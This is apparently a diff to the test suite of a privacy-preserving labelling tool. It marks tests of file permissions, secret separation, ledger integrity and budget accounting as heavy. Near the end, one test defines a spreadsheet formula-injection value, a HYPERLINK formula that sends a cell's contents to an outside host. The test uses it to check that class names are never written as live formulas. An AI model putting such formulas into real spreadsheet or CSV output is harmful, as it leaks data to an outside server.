@@ -47,6 +47,7 @@ def finished(finished_run: Any) -> Path:
     return root
 
 
+@pytest.mark.heavy
 def test_a_run_on_a_users_own_csv_writes_all_its_outputs(finished: Path) -> None:
     assert {path.name for path in (finished / "public").iterdir()} == PUBLIC
     guarantee = Guarantee.from_json((finished / "public" / "guarantee.json").read_text())
@@ -68,6 +69,7 @@ def test_a_run_on_a_users_own_csv_writes_all_its_outputs(finished: Path) -> None
         assert len(ledger.reservations()) == 1
 
 
+@pytest.mark.heavy
 def test_the_private_side_is_readable_by_its_owner_alone(finished: Path) -> None:
     assert mode(finished / "private") == 0o700
     kept = [path for path in finished.rglob("*") if path.is_file() and path.parent.name == "private"]
@@ -84,6 +86,7 @@ def test_an_open_private_folder_is_closed_before_anything_is_written_there(make_
     assert mode(root / "private") == 0o700
 
 
+@pytest.mark.heavy
 def test_nothing_private_lies_on_the_public_side(finished: Path) -> None:
     written = b"".join(path.read_bytes() for path in sorted((finished / "public").iterdir()))
     keys = [(finished / "private" / "run.key").read_bytes(), (finished / "ledger.db.key").read_bytes()]
@@ -95,6 +98,7 @@ def test_nothing_private_lies_on_the_public_side(finished: Path) -> None:
     assert [secret for secret in secrets if secret in written] == []
 
 
+@pytest.mark.heavy
 def test_running_a_finished_run_again_charges_and_draws_nothing(finished: Path) -> None:
     before, entries = labels(finished), _entries(finished)
     run(finished)
@@ -102,6 +106,7 @@ def test_running_a_finished_run_again_charges_and_draws_nothing(finished: Path) 
     assert _entries(finished) == entries
 
 
+@pytest.mark.heavy
 def test_another_student_learns_from_the_same_labels_at_no_charge(finished: Path) -> None:
     before, entries = labels(finished), _entries(finished)
     settings = finished / "quorate.toml"
@@ -116,6 +121,7 @@ def _entries(root: Path) -> list[str]:
         return [entry["kind"] for entry in ledger.export()]
 
 
+@pytest.mark.heavy
 def test_a_teacher_of_ones_own_is_found_beside_the_settings(make_run: Any, cli: Any) -> None:
     root = make_run(**{"teachers.model": "my_ward:teacher"})
     (root / "my_ward.py").write_text(
@@ -136,6 +142,7 @@ def test_a_teacher_of_ones_own_is_found_beside_the_settings(make_run: Any, cli: 
     assert facts.answers.answered == 150
 
 
+@pytest.mark.default_cases(2)
 @pytest.mark.parametrize("code", ["raise RuntimeError('no licence')", "import no_such_module", "teacher = 3", "pass"])
 def test_a_teacher_that_cannot_be_made_is_one_line(make_run: Any, code: str) -> None:
     root = make_run(**{"teachers.model": "broken_ward:teacher"})
@@ -145,6 +152,7 @@ def test_a_teacher_that_cannot_be_made_is_one_line(make_run: Any, code: str) -> 
         load_run(root)
 
 
+@pytest.mark.heavy
 def test_people_have_all_their_rows_with_one_teacher(make_run: Any) -> None:
     root = make_run(**{"data.unit": "patient_id"})
     batch = load_run(root)
@@ -160,6 +168,7 @@ def test_a_column_that_numbers_records_is_no_clash_with_the_word_record() -> Non
 # --- checking -----------------------------------------------------------------------------------------------------
 
 
+@pytest.mark.heavy
 def test_check_says_what_a_run_will_do_and_touches_no_budget(make_run: Any) -> None:
     root = make_run(**{"mechanism.online_answers": 20})
     found = check(load_run(root))
@@ -172,6 +181,7 @@ def test_check_says_what_a_run_will_do_and_touches_no_budget(make_run: Any) -> N
     assert found["delta"] == facts.guarantee.delta
 
 
+@pytest.mark.heavy
 def test_check_refuses_a_ledger_that_was_deleted_while_its_anchor_stands(make_run: Any) -> None:
     from quorate.errors import LedgerIntegrityError
 
@@ -194,6 +204,7 @@ def test_evaluation_rows_are_looked_at_before_anything_is_charged(make_run: Any)
     assert not (root / "ledger.db").exists()
 
 
+@pytest.mark.default_cases(1)
 @pytest.mark.parametrize("disguise", ["same file", "copy", "shuffled", "other labels"])
 def test_the_private_table_is_no_evaluation_table(make_run: Any, disguise: str) -> None:
     root = make_run(**{"data.evaluation": "private.csv" if disguise == "same file" else "evaluation.csv"})
@@ -207,6 +218,7 @@ def test_the_private_table_is_no_evaluation_table(make_run: Any, disguise: str) 
         load_run(root)
 
 
+@pytest.mark.default_cases(1)
 @pytest.mark.parametrize("ours", [30, 390])
 def test_private_rows_among_others_are_no_evaluation_table(make_run: Any, ours: int) -> None:
     root = make_run(**{"data.evaluation": "evaluation.csv"})
@@ -264,6 +276,7 @@ def test_a_run_that_has_not_finished_is_not_exported(make_run: Any, tmp_path: Pa
         export_files(make_run(), tmp_path / "outbox")
 
 
+@pytest.mark.heavy
 def test_a_public_side_of_which_a_file_is_missing_does_not_count_as_finished(
     make_run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -292,6 +305,7 @@ def test_a_public_side_of_which_a_file_is_missing_does_not_count_as_finished(
     assert len(export_files(root, tmp_path / "outbox")) == len(PUBLIC) + 1
 
 
+@pytest.mark.heavy
 def test_a_seeded_run_says_so_on_everything_and_does_not_leave(make_run: Any, tmp_path: Path) -> None:
     root = make_run(**{"run.unsafe_noise_seed": 3})
     facts = run(root)
@@ -308,6 +322,7 @@ def test_a_seeded_run_says_so_on_everything_and_does_not_leave(make_run: Any, tm
     assert not (tmp_path / "outbox").exists()
 
 
+@pytest.mark.heavy
 def test_the_same_seed_gives_the_same_labels_and_another_one_does_not(make_run: Any) -> None:
     roots = [make_run(name, **{"run.unsafe_noise_seed": seed}) for name, seed in (("a", 3), ("b", 3), ("c", 4))]
     for root in roots:
@@ -317,6 +332,7 @@ def test_the_same_seed_gives_the_same_labels_and_another_one_does_not(make_run: 
     assert first != other
 
 
+@pytest.mark.heavy
 def test_without_a_seed_two_runs_have_different_keys_and_noise(make_run: Any) -> None:
     roots = [make_run(name) for name in ("a", "b")]
     for root in roots:
@@ -326,6 +342,7 @@ def test_without_a_seed_two_runs_have_different_keys_and_noise(make_run: Any) ->
     assert labels(roots[0]) != labels(roots[1])
 
 
+@pytest.mark.heavy
 def test_a_student_that_cannot_be_written_says_that_the_labels_were_charged(
     make_run: Any, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -344,6 +361,7 @@ def test_a_student_that_cannot_be_written_says_that_the_labels_were_charged(
     assert _entries(root) == entries
 
 
+@pytest.mark.heavy
 def test_a_stale_student_of_an_unseeded_run_does_not_lie_beside_seeded_labels(finished: Path) -> None:
     batch = load_run(finished)
     with batch.open_ledger() as ledger:
@@ -364,6 +382,7 @@ def test_a_stale_student_of_an_unseeded_run_does_not_lie_beside_seeded_labels(fi
     assert mode(finished / "private" / "student.skops") == 0o600
 
 
+@pytest.mark.heavy
 def test_the_internal_edition_knows_every_margin_and_stays_secret(finished: Path) -> None:
     from quorate.run.internal import internal_facts
 
@@ -382,6 +401,7 @@ def test_the_internal_edition_knows_every_margin_and_stays_secret(finished: Path
     assert told.reveal().stability.n_records == 400 // 12
 
 
+@pytest.mark.heavy
 def test_a_budget_may_last_for_several_runs(make_run: Any) -> None:
     """Each takes its share, and what both cost together stands in the second's guarantee."""
     root = make_run(**{"run.epsilon": 1.5, "run.delta": 4e-6})
@@ -399,6 +419,7 @@ def test_a_budget_may_last_for_several_runs(make_run: Any) -> None:
 HOSTILE = "=HYPERLINK('http://example.org/?'&A1)"
 
 
+@pytest.mark.heavy
 def test_a_class_name_is_no_formula_in_the_file_of_labels(make_run: Any, cli: Any) -> None:
     """Its reader is somebody with a spreadsheet; the file as it is written can be a run's evaluation again."""
     root = make_run(**{"data.classes": ["+no", HOSTILE], "data.evaluation": "evaluation.csv"})
